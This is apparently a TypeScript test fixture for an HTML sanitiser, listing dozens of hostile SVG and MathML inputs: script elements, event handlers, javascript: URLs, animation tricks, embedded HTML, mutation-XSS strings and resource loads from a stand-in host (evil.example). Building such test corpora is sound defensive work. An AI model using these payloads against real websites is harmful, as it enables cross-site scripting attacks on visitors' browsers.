import { everyWay, EVIL, only, type Hostile } from './types.ts';

const SVG = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"';
const svg = (content: string): string => `<svg ${SVG} viewBox="0 0 9 9">${content}</svg>`;
const math = (content: string): string =>
  `<math xmlns="http://www.w3.org/1998/Math/MathML" xmlns:xlink="http://www.w3.org/1999/xlink">${content}</math>`;

const SVGS: readonly (readonly [string, string])[] = [
  ['script in SVG', svg('<script>hurt(1)</script>')],
  ['script by address in SVG', svg(`<script href="${EVIL}/x.js" xlink:href="${EVIL}/x.js"/>`)],
  ['script by data in SVG', svg('<script xlink:href="data:text/javascript,hurt(1)"/>')],
  ['handler and style in SVG', svg('<style>@import url(https://evil.example/x.css);</style><path d="M0 0" onclick="hurt(1)"/>')],
  ['use of another document', svg(`<use href="${EVIL}/x.svg#a" xlink:href="${EVIL}/x.svg#a"/>`)],
  [
    'use of data',
    svg(
      '<use href="data:image/svg+xml;base64,PHN2ZyBpZD0ieCIgeG1sbnM9Imh0dHA6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiBvbmxvYWQ9Imh1cnQoMSkiLz4=#x"/>',
    ),
  ],
  ['image of another host', svg(`<image href="${EVIL}/x.png" xlink:href="${EVIL}/x.png" width="9" height="9"/>`)],
  [
    'image without a scheme',
    svg('<image href="//evil.example/x.png"/><image href="/\\evil.example/x.png"/><image href="/&#9;/evil.example/x"/>'),
  ],
  [
    'image of data',
    svg('<image href="data:image/svg+xml,&lt;svg xmlns=&quot;http://www.w3.org/2000/svg&quot; onload=&quot;hurt(1)&quot;/>"/>'),
  ],
  ['image that runs', svg('<image href="javascript:hurt(1)"/><image href="java&#10;script:hurt(1)" onload="hurt(1)" onerror="hurt(1)"/>')],
  ['text along another document', svg(`<text><textPath href="${EVIL}/x.svg#p" path="url(${EVIL})" onclick="hurt(1)">x</textPath></text>`)],
  [
    'title with handlers',
    svg('<title onclick="hurt(1)" style="background: url(https://evil.example/x)">x<b onclick="hurt(1)">y</b></title>'),
  ],
  ['title of a part outside of a drawing', '<div><g><title>hurt</title></g></div>'],
  ['use of itself', svg('<symbol id="loop"><use href="#loop"/></symbol><use href="#loop"/>')],
  [
    'many uses',
    svg(
      '<g id="u0"><path d="M0 0h1"/></g>' +
        Array.from({ length: 8 }, (_, i) => `<g id="u${i + 1}">${`<use href="#u${i}"/>`.repeat(3)}</g>`).join(''),
    ),
  ],
  ['animated address', svg('<a><text>link</text><animate attributeName="href" values="javascript:hurt(1)"/></a>')],
  ['set address', svg('<a href="#"><text>link</text><set attributeName="href" to="javascript:hurt(1)"/></a>')],
  [
    'animated address elsewhere',
    svg(
      '<a id="anim"><text>link</text></a><animate href="#anim" xlink:href="#anim" attributeName="xlink:href" ' +
        'from="javascript:hurt(1)" to="javascript:hurt(1)" begin="0s"/>',
    ),
  ],
  ['set handler', svg('<rect width="9" height="9"><set attributeName="onclick" to="hurt(1)"/></rect>')],
  [
    'animated motion',
    svg('<animateMotion onbegin="hurt(1)" dur="1s"/><animateTransform onend="hurt(1)" attributeName="transform" dur="1s"/>'),
  ],
  [
    'HTML in foreignObject',
    svg(
      '<foreignObject width="9" height="9"><body xmlns="http://www.w3.org/1999/xhtml">' +
        '<iframe src="javascript:hurt(1)"/><script>hurt(1)</script></body></foreignObject>',
    ),
  ],
  ['picture in foreignObject', svg('<foreignObject><img src="/x" alt="" onerror="hurt(1)"/></foreignObject>')],
  ['HTML in desc', svg('<desc><script>hurt(1)</script><img src="/x" alt="" onerror="hurt(1)"/></desc>')],
  ['HTML in title', svg('<title><style><a title="&lt;/style>&lt;img src onerror=hurt(1)>"/></style></title>')],
  ['picture by address', svg(`<image href="${EVIL}/x.png" xlink:href="${EVIL}/x.png" onload="hurt(1)"/>`)],
  ['filter picture', svg(`<filter id="f"><feImage href="${EVIL}/x.svg"/></filter><rect filter="url(#f)" width="9" height="9"/>`)],
  ['foreign paint', svg(`<rect fill="url(${EVIL}/x.svg#p)" stroke="url('${EVIL}/y.svg#p')" width="9" height="9"/>`)],
  ['foreign paint escaped', svg(`<rect fill="u\\72l(${EVIL}/x.svg#p)" mask="u\\000072l(${EVIL}/m.svg#m)" width="9" height="9"/>`)],
  ['foreign mask', svg(`<rect mask="image-set('${EVIL}/m.png' 1x)" clip-path="url( '${EVIL}/c.svg#c')" width="9" height="9"/>`)],
  ['handler of the root', `<svg ${SVG} onload="hurt(1)" onunload="hurt(1)" onresize="hurt(1)" onzoom="hurt(1)"><path d="M0 0"/></svg>`],
  ['handler element', svg('<handler type="text/javascript">hurt(1)</handler><listener event="load" handler="#x"/>')],
  ['discard', svg('<discard begin="0s" href="#mainContent"/>')],
  ['cursor and tref', svg(`<cursor xlink:href="${EVIL}/c"/><tref xlink:href="${EVIL}/t"/>`)],
  [
    'switch',
    svg(
      '<switch><foreignObject requiredExtensions="http://www.w3.org/1999/xhtml">' +
        '<iframe srcdoc="&lt;script>parent.hurt(1)&lt;/script>"/></foreignObject></switch>',
    ),
  ],
  ['view and mpath', svg('<view id="v" onfocus="hurt(1)"/><mpath xlink:href="javascript:hurt(1)"/>')],
  ['font and glyph', svg('<font-face-uri xlink:href="javascript:hurt(1)"/><glyph onload="hurt(1)"/>')],
  ['prefix of SVG', '<s:svg xmlns:s="http://www.w3.org/2000/svg" onload="hurt(1)"><s:script>hurt(1)</s:script></s:svg>'],
];

const MATHS: readonly (readonly [string, string])[] = [
  ['address on math', `<math xmlns="http://www.w3.org/1998/Math/MathML" href="javascript:hurt(1)"><mtext>link</mtext></math>`],
  ['address on mi', math('<mi href="javascript:hurt(1)" xlink:href="javascript:hurt(1)">x</mi>')],
  ['menclose with a handler', math('<menclose notation="circle" onclick="hurt(1)" href="javascript:hurt(1)"><mi>x</mi></menclose>')],
  ['maction', math('<maction actiontype="statusline#https://evil.example" xlink:href="javascript:hurt(1)">link<mtext>x</mtext></maction>')],
  ['maction toggle', math('<maction actiontype="toggle" onclick="hurt(1)"><mi>a</mi><mi>b</mi></maction>')],
  [
    'annotation-xml',
    math('<semantics><mi>x</mi><annotation-xml encoding="text/html"><img src="/x" alt="" onerror="hurt(1)"/></annotation-xml></semantics>'),
  ],
  [
    'annotation-xml with a frame',
    math('<annotation-xml encoding="application/xhtml+xml"><iframe src="javascript:hurt(1)"/><script>hurt(1)</script></annotation-xml>'),
  ],
  [
    'style in annotation',
    math('<annotation-xml encoding="text/html"><style>*{background:url(https://evil.example/x)}</style></annotation-xml>'),
  ],
  ['glyph', math('<mglyph src="javascript:hurt(1)" altimg="javascript:hurt(1)" alt="x"/>')],
  ['mglyph and a table', math('<mtext><table><mglyph><style><math href="javascript:hurt(1)">x</math></style></mglyph></table></mtext>')],
  ['picture in mtext', math('<mtext><img src="/x" alt="" onerror="hurt(1)"/></mtext>')],
  ['handler on a fraction', math('<mfrac onclick="hurt(1)" style="background: url(https://evil.example/x)"><mn>1</mn><mn>2</mn></mfrac>')],
  ['definitions by address', math('<csymbol definitionURL="javascript:hurt(1)">x</csymbol><mrow altimg="https://evil.example/x"/>')],
];

/** SVG and MathML. */
export const pictures: readonly Hostile[] = [
  ...SVGS.flatMap(([id, body]) => everyWay(id, body)),
  ...MATHS.flatMap(([id, body]) => everyWay(id, body)),
  only('html', 'SVG as HTML reads it', '<svg><p><style><g title="</style><img src onerror=hurt(1)>">'),
  only('html', 'SVG with a script of HTML', '<svg><script>hurt&#40;1&#41;</script>'),
  only('html', 'SVG with a set that is not closed', '<svg><set attributeName=onload to=hurt(1)><a xlink:href=javascript:hurt(1)><text>x'),
  only('html', 'SVG with CDATA', '<svg><![CDATA[><img src onerror=hurt(1)>]]></svg>'),
  only(
    'html',
    'MathML with a table',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=hurt(1)&gt;">',
  ),
  only(
    'html',
    'MathML with an SVG inside',
    '<math><annotation-xml encoding="text/html"><svg><style><img src onerror=hurt(1)></style></svg></annotation-xml></math>',
  ),
];
